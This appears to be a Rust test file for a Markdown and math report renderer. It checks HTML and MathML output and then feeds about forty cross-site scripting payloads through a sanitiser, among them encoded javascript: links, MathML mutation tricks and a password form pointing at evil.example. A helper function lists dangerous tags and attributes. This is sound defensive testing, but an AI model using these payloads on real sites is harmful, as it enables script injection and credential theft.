use super::*;
use data::report::{Block, List, Tone};

fn html(content: Content) -> String {
    html_of_block(&content).expect("it has words")
}

#[test]
fn words_become_html() {
    for (text, expected) in [
        ("a **b** *c* `d`", "<p>a <strong>b</strong> <em>c</em> <code>d</code></p>"),
        ("a\nb", "<p>a<br>\nb</p>"),
        ("a\n\nb", "<p>a</p>\n<p>b</p>"),
        ("# a", "<p># a</p>"),
        ("- a\n1. b", "<p>- a<br>\n1. b</p>"),
        ("    a", "<p>a</p>"),
        ("\\# a", "<p># a</p>"),
        ("~~a~~ 2<3 & c", "<p><del>a</del> 2&lt;3 &amp; c</p>"),
        ("[a](/experiments/1)", "<p><a href=\"/experiments/1\" rel=\"noopener noreferrer nofollow\">a</a></p>"),
        ("", ""),
    ] {
        assert_eq!(html(Content::paragraph(text)).trim(), expected, "{text}");
    }
    assert_eq!(html(Content::Heading { level: 1, text: "a *b*".into() }).trim(), "a <em>b</em>");
    let item = Content::Item { list: List::Bullet, depth: 0, done: false, text: "a\n\nb".into() };
    assert_eq!(html(item).trim(), "a<br>\nb");
}

#[test]
fn formulas_become_mathml() {
    for (formula, part) in [
        ("x^2", "<msup>"),
        ("\\frac{a}{b}", "<mfrac>"),
        ("\\sum_{i=1}^n x_i", "munderover"),
        ("\\begin{pmatrix}1&2\\\\3&4\\end{pmatrix}", "<mtable"),
        ("\\nothing{x}", "<code title="),
        ("\\frac{", "<code title="),
        ("\\def\\a{\\a\\a}\\a", "cannot define"),
        (&"{".repeat(3_000), "deep"),
        (&"x".repeat(9_000), "at most"),
    ] {
        let made = html(Content::Math { text: formula.into() });
        assert!(made.contains(part), "{formula:.30}: {made:.300}");
    }
    let inline = html(Content::paragraph("so $a_1 < b$ holds"));
    assert!(inline.contains("<math") && inline.contains("&lt;") && inline.contains("holds"), "{inline}");
}

#[test]
fn tables_become_html() {
    let made = html(Content::Markdown { text: "| a | b |\n|--:|---|\n| 1 | ~~2~~ |".into() });
    assert!(made.contains("<table>") && made.contains("text-align:right") && made.contains("<del>2</del>"), "{made}");
}

/// Attacks from the field's lists: each must leave nothing that runs, loads or looks like the app.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><script href=\"data:text/javascript,alert(1)\"/></svg>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\u{a}script:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;avascript&colon;alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:msgbox)",
    "[a](<javascript:alert(1)>)",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "![tracker](https://evil.example/pixel.png)",
    "![a](x \"\" onerror=alert(1))",
    "![\" onerror=\"alert(1)](x)",
    "<a href=\"jav&#x09;ascript:alert(1)\">a</a>",
    "<a href=x onmouseover=alert(1) style=\"position:fixed;inset:0\" class=\"dialog-scrim\" id=crash target=_top>a</a>",
    "<iframe src=//evil.example></iframe><object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0><base href=//evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=\"javascript:alert(1)\"><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<math><maction actiontype=\"statusline#javascript:alert(1)\">x</maction></math>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$<img src=x onerror=alert(1)>$",
    "$\\htmlStyle{position:fixed}{x}\\class{dialog-scrim}{x}\\unicode{x3c}script$",
    "$\\color{red;background:url(//evil.example)}x$",
    "`</code><script>alert(1)</script>`",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template><video src=x onerror=alert(1)><audio autoplay src=x>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p style=\"background:url(javascript:alert(1))\">x</p><td style=\"background-image:url(//evil.example)\">",
];

#[test]
fn attacks_come_to_nothing() {
    for attack in ATTACKS {
        for content in [
            Content::paragraph(*attack),
            Content::Heading { level: 1, text: (*attack).into() },
            Content::Callout { tone: Tone::Note, text: (*attack).into() },
            Content::Image { hash: String::new(), caption: (*attack).into() },
            Content::Markdown { text: (*attack).into() },
            Content::Math { text: (*attack).into() },
            Content::Code { language: "python".into(), text: (*attack).into() },
        ] {
            let made = html(content.clone());
            assert_eq!(danger(&made), None, "{content:?}: {made}");
        }
        let comment = html_of_text(attack);
        assert_eq!(danger(&comment), None, "{comment}");
    }
}

/// What in `html` could run, load or look like the app. Looks at tags only: as text anything may be shown.
fn danger(html: &str) -> Option<String> {
    for tag in html.split('<').skip(1).filter_map(|rest| rest.split_once('>')).map(|(tag, _)| tag.to_lowercase()) {
        let name = tag.trim_start_matches('/').split([' ', '/', '\n']).next().unwrap_or_default().to_owned();
        let bad_names = [
            "script",
            "style",
            "svg",
            "iframe",
            "object",
            "embed",
            "form",
            "button",
            "link",
            "meta",
            "base",
            "video",
            "audio",
            "template",
            "maction",
            "annotation-xml",
            "mglyph",
            "noscript",
        ];
        let attributes = tag.trim_start_matches(&name);
        let bad = bad_names.contains(&name.as_str())
            || [
                "javascript:",
                "vbscript:",
                "data:",
                "url(",
                "position",
                "dialog",
                "target=",
                "action",
                "id=\"crash",
                "xlink",
            ]
            .iter()
            .any(|part| attributes.contains(part) && !attributes.contains("title="))
            || attributes.split([' ', '\n']).any(|part| part.starts_with("on") && part.contains('='))
                && !attributes.contains("title=")
            || (name == "img" && attributes.contains("src="))
            || (name == "input" && !attributes.contains("type=\"checkbox\""));
        if bad {
            return Some(tag);
        }
    }
    None
}

#[test]
fn pictures_of_others_are_links_that_say_so() {
    for (text, said) in [
        ("![a *b*](https://evil.example/x.png)", "Picture at evil.example a <em>b</em></a>"),
        ("![](https://me@evil.example:81?x)", "Picture at evil.example:81 </a>"),
        ("![x](//evil.example/x)", "Picture at evil.example x</a>"),
        ("![x](data:image/png;base64,AAAA)", "Picture at another place x</a>"),
        ("![x](https://&quot;onload=alert`1`//)", "Picture at \"onload=alert`1` x</a>"),
    ] {
        for content in [Content::paragraph(text), Content::Markdown { text: text.into() }] {
            let made = html(content);
            assert!(made.contains(said) && made.contains("class=\"report-outside\""), "{text}: {made}");
            assert!(!made.contains("<img") && danger(&made).is_none(), "{text}: {made}");
        }
    }
    let link = html(Content::paragraph("[x](/y)"));
    assert!(!link.contains("class"), "{link}");
    let dressed =
        html(Content::Markdown { text: "<a class=\"report-outside dialog\">x</a><b class=report-outside>".into() });
    assert!(!dressed.contains("class"), "{dressed}");
}

#[test]
fn our_own_pictures_are_shown_in_markdown() {
    let hash = "0a".repeat(32);
    let made = html(Content::Markdown { text: format!("![loss]({IMAGES}{hash})") });
    assert!(made.contains(&format!("src=\"{IMAGES}{hash}\"")), "{made}");
}

#[test]
fn blocks_that_the_app_draws_have_no_html() {
    let block = |id: &str, content| Block { id: id.into(), content };
    let blocks = vec![block("a", Content::Divider), block("b", Content::paragraph("x")), block("c", Content::Contents)];
    let made = html_of(&Document { blocks, ..Document::default() });
    assert_eq!(made.keys().collect::<Vec<_>>(), ["b"]);
}
